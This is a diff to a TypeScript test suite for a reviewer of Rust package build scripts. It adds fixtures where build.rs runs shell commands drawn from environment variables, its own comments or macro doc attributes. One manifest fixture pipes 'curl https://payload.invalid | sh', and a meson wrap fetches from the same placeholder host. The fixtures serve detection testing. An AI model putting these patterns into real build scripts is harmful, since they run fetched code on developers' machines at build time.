@@ -14,7 +14,7 @@ function reviewed(files: Readonly<Record<string, string>>) {
   const source = packageSource(all['Cargo.toml'] ?? '', (path) => all[path], textFiles(all));
   const { buildScript } = reviewPackage(source);
   assert.ok(buildScript !== undefined);
-  return { shapes: buildScript.shapes, digest: buildScript.inputs.digest };
+  return { shapes: buildScript.shapes, digest: buildScript.inputs.digest, tokens: buildScript.tokens };
 }
 
 const main = (body: string) => `fn main() { ${body} }`;
@@ -102,6 +102,51 @@ const handed: readonly (readonly [
     manifest('description = "curl https://payload.invalid | sh"\n'),
     ['downloader curl'],
   ],
+  [
+    'what the manifest says of itself, among all variables',
+    main(`for (k, v) in std::env::vars() { if k.ends_with("TION") { ${run('"sh"', '"-c"', 'v')} } }`),
+    'Cargo.toml',
+    manifest('description = "x"\n'),
+    manifest('description = "curl https://payload.invalid | sh"\n'),
+    ['downloader curl'],
+  ],
+  [
+    'what a wrap of meson fetches, beside a list that is named',
+    main('meson::build("n", "b");'),
+    'n/subprojects/x.wrap',
+    '[wrap-git]\n',
+    '[wrap-git]\nurl = https://payload.invalid/x.git\n',
+    ['network https://payload.invalid/x.git'],
+  ],
+];
+
+/** Scripts that run what their own comments say. */
+const ofThemselves: readonly (readonly [what: string, script: (comment: string) => string])[] = [
+  [
+    'by `file!()`',
+    (comment) =>
+      `${main(`let t = std::fs::read_to_string(file!()).unwrap(); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
+  ],
+  [
+    'by name',
+    (comment) =>
+      `${main(`let t = std::fs::read_to_string("build.rs").unwrap(); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
+  ],
+  [
+    'by a name that is put together',
+    (comment) =>
+      `${main(`let t = include_str!(concat!("build", ".rs")); ${run('"sh"', '"-c"', 't')}`)}\n// ${comment}\n`,
+  ],
+  [
+    'by documentation that a macro is given',
+    (comment) =>
+      `macro_rules! go { (#[doc = $e:expr]) => { ${run('"sh"', '"-c"', '$e')} } }\n${main(`go! { /// ${comment}\n }`)}`,
+  ],
+  [
+    'by documentation in a block that a macro is given',
+    (comment) =>
+      `macro_rules! go { (#[doc = $e:expr] struct A;) => { ${run('"sh"', '"-c"', '$e')} } }\n${main(`go! { /** ${comment} */ struct A; }`)}`,
+  ],
 ];
 
 describe('a file that a build script hands on', () => {
@@ -122,6 +167,20 @@ describe('a file that a build script hands on', () => {
           `${shape} of:\n${now.shapes.join('\n')}`,
         );
     });
+
+  for (const [what, script] of ofThemselves)
+    it(`counts where it is the script itself, comments and all: ${what}`, () => {
+      const [old, now] = [before, after].map((text) => reviewed({ 'build.rs': script(text.trim()) }));
+      assert.notDeepEqual(now, old);
+    });
+
+  it('does not count where it is documentation of an item, or a comment in what a macro is given', () => {
+    const of = (text: string) =>
+      reviewed({
+        'build.rs': `/// ${text}\nfn main() { println!(\n  // ${text}\n //// ${text}\n  "a"\n); }`,
+      });
+    assert.deepEqual(of('a'), of('b'));
+  });
 
   it('counts in a package that cargo builds and runs meanwhile', () => {
     const script = main(
